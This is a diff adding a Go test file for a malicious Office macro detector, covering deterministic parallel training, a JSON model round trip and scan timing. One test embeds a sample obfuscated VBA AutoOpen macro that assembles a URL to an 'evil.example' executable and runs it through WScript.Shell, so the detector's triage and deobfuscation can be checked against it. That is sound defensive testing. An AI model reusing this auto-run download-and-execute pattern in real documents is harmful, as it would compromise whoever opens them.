@@ -1,0 +1,213 @@
+package core
+
+import (
+	"bytes"
+	"encoding/json"
+	"testing"
+
+	"repro/internal/corpus"
+)
+
+// smallCorpus generates the deterministic training corpus shared by the
+// parallelism tests.
+func smallCorpus(t testing.TB) *corpus.Dataset {
+	t.Helper()
+	spec := corpus.SmallSpec()
+	spec.BenignMacros, spec.BenignObfuscated = 120, 20
+	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
+	spec.BenignMaxLen = 4000
+	return corpus.GenerateMacros(spec)
+}
+
+// TestTrainParallelDeterminism asserts a seeded detector serializes to
+// bit-identical bytes whether trained with 1 worker or many — the
+// guarantee that makes the -workers flag safe to tune freely.
+func TestTrainParallelDeterminism(t *testing.T) {
+	d := smallCorpus(t)
+	for _, algo := range []Algorithm{AlgoRF, AlgoLDA} {
+		var blobs [][]byte
+		for _, workers := range []int{1, 4} {
+			det, err := NewDetector(algo, FeatureSetV, 7)
+			if err != nil {
+				t.Fatal(err)
+			}
+			det.SetWorkers(workers)
+			if err := det.Train(d.Sources(), d.Labels()); err != nil {
+				t.Fatal(err)
+			}
+			blob, err := det.SaveModel()
+			if err != nil {
+				t.Fatal(err)
+			}
+			blobs = append(blobs, blob)
+		}
+		if !bytes.Equal(blobs[0], blobs[1]) {
+			t.Errorf("%s: 1-worker and 4-worker training produced different models", algo)
+		}
+	}
+}
+
+// TestFeaturizeAllParallelMatchesSequential asserts row i is always the
+// vector of sources[i] regardless of worker count.
+func TestFeaturizeAllParallelMatchesSequential(t *testing.T) {
+	d := smallCorpus(t)
+	sources := d.Sources()
+	for _, fs := range []FeatureSet{FeatureSetV, FeatureSetJ} {
+		seq := FeaturizeAll(fs, sources, 1)
+		par := FeaturizeAll(fs, sources, 8)
+		if len(seq) != len(par) {
+			t.Fatalf("%s: %d vs %d rows", fs, len(seq), len(par))
+		}
+		for i := range seq {
+			for k := range seq[i] {
+				if seq[i][k] != par[i][k] {
+					t.Fatalf("%s: row %d feature %d differs: %v vs %v", fs, i, k, seq[i][k], par[i][k])
+				}
+			}
+		}
+	}
+}
+
+// TestSaveModelHeaderJSON asserts the model header is built by real JSON
+// marshaling: the blob is valid JSON whose header fields unmarshal to
+// exactly the detector's feature set and algorithm, and the whole model
+// survives a decode/re-encode round trip.
+func TestSaveModelHeaderJSON(t *testing.T) {
+	d := smallCorpus(t)
+	det, err := NewDetector(AlgoRF, FeatureSetJ, 7)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := det.Train(d.Sources(), d.Labels()); err != nil {
+		t.Fatal(err)
+	}
+	blob, err := det.SaveModel()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !json.Valid(blob) {
+		t.Fatal("SaveModel output is not valid JSON")
+	}
+	var head struct {
+		FeatureSet string          `json:"featureSet"`
+		Algorithm  string          `json:"algorithm"`
+		Model      json.RawMessage `json:"model"`
+	}
+	if err := json.Unmarshal(blob, &head); err != nil {
+		t.Fatal(err)
+	}
+	if head.FeatureSet != "J" || head.Algorithm != "rf" {
+		t.Errorf("header = %q/%q, want J/rf", head.FeatureSet, head.Algorithm)
+	}
+	if len(head.Model) == 0 {
+		t.Error("header carries no model payload")
+	}
+	// Decode → re-encode → load still yields a working detector.
+	reencoded, err := json.Marshal(head)
+	if err != nil {
+		t.Fatal(err)
+	}
+	restored, err := LoadModel(reencoded)
+	if err != nil {
+		t.Fatal(err)
+	}
+	src := "Sub t()\nx = Chr(104) & Chr(105)\nEnd Sub\n"
+	a, err := det.ClassifySource(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := restored.ClassifySource(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if a.Score != b.Score {
+		t.Errorf("scores differ after re-encode round trip: %v vs %v", a.Score, b.Score)
+	}
+}
+
+// TestMacroAnalysisSharedParse asserts the single-parse object serves
+// classification, both feature sets, triage and deobfuscation
+// consistently with the one-shot APIs.
+func TestMacroAnalysisSharedParse(t *testing.T) {
+	src := `Sub AutoOpen()
+Dim u As String
+u = "ht" & "tp://" & "evil.example" & "/p.exe"
+CreateObject("WScript.Shell").Run u
+End Sub
+`
+	a := Analyze(src)
+	if a.Source() != src {
+		t.Error("Source mismatch")
+	}
+	if got, want := a.Features(FeatureSetV), (FeatureSetV).Extract(src); len(got) != len(want) {
+		t.Fatalf("V dims: %d vs %d", len(got), len(want))
+	} else {
+		for i := range got {
+			if got[i] != want[i] {
+				t.Errorf("V[%d] = %v, want %v", i, got[i], want[i])
+			}
+		}
+	}
+	if got, want := a.Features(FeatureSetJ), (FeatureSetJ).Extract(src); len(got) != len(want) {
+		t.Fatalf("J dims: %d vs %d", len(got), len(want))
+	} else {
+		for i := range got {
+			if got[i] != want[i] {
+				t.Errorf("J[%d] = %v, want %v", i, got[i], want[i])
+			}
+		}
+	}
+	rep := a.Triage()
+	if !rep.HasAutoExec() || !rep.Suspicious() {
+		t.Errorf("triage missed autoexec/suspicious: %+v", rep.Findings)
+	}
+	dres := a.Deobfuscate()
+	if dres.Folds == 0 {
+		t.Error("deobfuscation folded nothing")
+	}
+	found := false
+	for _, s := range dres.Recovered {
+		if s == "http://evil.example/p.exe" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("URL not recovered: %v", dres.Recovered)
+	}
+}
+
+// TestScanFileTimed asserts stage timings are populated and the report
+// matches ScanFile.
+func TestScanFileTimed(t *testing.T) {
+	det := trainSmall(t, AlgoRF, FeatureSetV)
+	d := smallCorpus(t)
+	files, err := d.BuildFiles()
+	if err != nil {
+		t.Fatal(err)
+	}
+	report, tm, err := det.ScanFileTimed(files[0].Data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tm.ExtractNS <= 0 {
+		t.Error("ExtractNS not measured")
+	}
+	if len(report.Macros) > 0 && (tm.FeaturizeNS <= 0 || tm.ClassifyNS <= 0) {
+		t.Errorf("stage timings not measured: %+v", tm)
+	}
+	plain, err := det.ScanFile(files[0].Data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plain.Macros) != len(report.Macros) || plain.Skipped != report.Skipped {
+		t.Error("ScanFile and ScanFileTimed disagree")
+	}
+	for i := range plain.Macros {
+		if plain.Macros[i].Score != report.Macros[i].Score {
+			t.Errorf("macro %d score differs", i)
+		}
+		if plain.Macros[i].Analysis == nil {
+			t.Error("verdict lost its shared analysis")
+		}
+	}
+}
